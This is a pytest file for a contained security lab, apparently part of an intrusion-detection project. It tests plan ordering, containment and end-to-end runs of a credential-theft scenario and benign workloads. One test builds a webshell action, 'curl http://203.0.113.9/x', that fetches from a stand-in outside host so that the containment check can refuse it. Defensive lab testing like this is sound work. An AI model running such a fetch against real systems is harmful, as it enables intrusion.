import dataclasses
import os
import subprocess
from pathlib import Path

import pytest

from provarmor.evaluation.groundtruth import LABELS_FILE, load_ground_truth
from provarmor.lab import snapshot
from provarmor.lab.account_journal import read_entries
from provarmor.lab.containment import ContainmentError
from provarmor.lab.context import LabContext
from provarmor.lab.jail import leftover_jails
from provarmor.lab.netns import lab_links, lab_namespaces
from provarmor.lab.registry import find_scenario, find_workloads
from provarmor.lab.runner import (
    RunSettings,
    check_plan,
    run_benign,
    run_scenario,
)
from provarmor.lab.scenario import Action, Channel
from provarmor.model.errors import ConfigError

DROP_BASES = ("/tmp", "/var/tmp", "/dev/shm")


def test_a_plan_must_cover_the_steps_in_order():
    scenario = find_scenario("nodlink-ubuntu")
    ctx = LabContext.from_seed(1)
    plan = scenario.plan(ctx)
    shuffled = dataclasses.replace(plan, actions=plan.actions[::-1])
    with pytest.raises(ConfigError, match="do not match steps"):
        check_plan(scenario, shuffled, ctx)


def test_a_plan_naming_a_foreign_address_is_refused_before_anything_runs():
    scenario = find_scenario("nodlink-ubuntu")
    ctx = LabContext.from_seed(1)
    plan = scenario.plan(ctx)
    bad = Action(step="exploit", channel=Channel.WEBSHELL, command="curl http://203.0.113.9/x")
    tampered = dataclasses.replace(plan, actions=(bad, *plan.actions[1:]))
    with pytest.raises(ContainmentError, match=r"203\.0\.113\.9"):
        check_plan(scenario, tampered, ctx)


def machine_state() -> dict[str, object]:
    hidden = {
        base: sorted(p.name for p in Path(base).iterdir() if p.name.startswith("."))
        for base in DROP_BASES
        if Path(base).is_dir()
    }
    return {
        "users": sorted(read_entries("/etc/passwd")),
        "namespaces": lab_namespaces(),
        "links": lab_links(),
        "cgroups": leftover_jails(),
        "routes": subprocess.run(["ip", "route"], capture_output=True, text=True).stdout,
        "hidden": hidden,
        "state": sorted(p.name for p in snapshot.STATE_DIR.glob("*"))
        if snapshot.STATE_DIR.is_dir()
        else [],
        "srv": sorted(os.listdir("/srv")) if os.path.isdir("/srv") else [],
    }


@pytest.mark.privileged
@pytest.mark.slow
def test_a_real_scenario_runs_end_to_end_and_leaves_the_machine_as_it_was(
    lab_machine, recorder, tmp_path
):
    before = machine_state()
    watched = snapshot.take("pytest-e2e")
    truth = run_scenario(
        find_scenario("credential-theft-lateral"),
        recorder=recorder,
        out_dir=tmp_path,
        settings=RunSettings(seed=21, pause=(0.05, 0.1)),
    )
    assert recorder.calls == ["start", "stop"]
    assert truth.completed, (tmp_path / "transcript.log").read_text()[-3000:]
    assert load_ground_truth(tmp_path / LABELS_FILE) == truth
    assert truth.started_ns <= truth.attack_start_ns < truth.attack_end_ns <= truth.ended_ns
    assert [root.via for root in truth.attacker_roots] == ["webshell", "webshell"]
    assert truth.spawners and truth.spawners[0].role == "host2"
    assert {record.role for record in truth.infrastructure} >= {"c2", "sink", "dns", "host2"}
    assert truth.web_pid not in {root.pid for root in truth.attacker_roots}
    assert machine_state() == before
    assert snapshot.differences(watched) == []
    assert all(not Path(path).exists() for path in truth.files)


@pytest.mark.privileged
@pytest.mark.slow
def test_a_short_benign_mix_runs_every_workload_it_is_given(lab_machine, recorder, tmp_path):
    before = machine_state()
    workloads = find_workloads("webapp-load,admin-shell,ssh-admin,admin-downloads,backup,cron-jobs")
    truth = run_benign(
        workloads,
        recorder=recorder,
        out_dir=tmp_path,
        settings=RunSettings(seed=5, lanes=2),
        duration=4,
    )
    assert recorder.calls == ["start", "stop"]
    assert truth.kind == "benign" and truth.attacker_roots == ()
    assert truth.sessions and all(session.ok for session in truth.sessions), [
        s for s in truth.sessions if not s.ok
    ]
    assert machine_state() == before
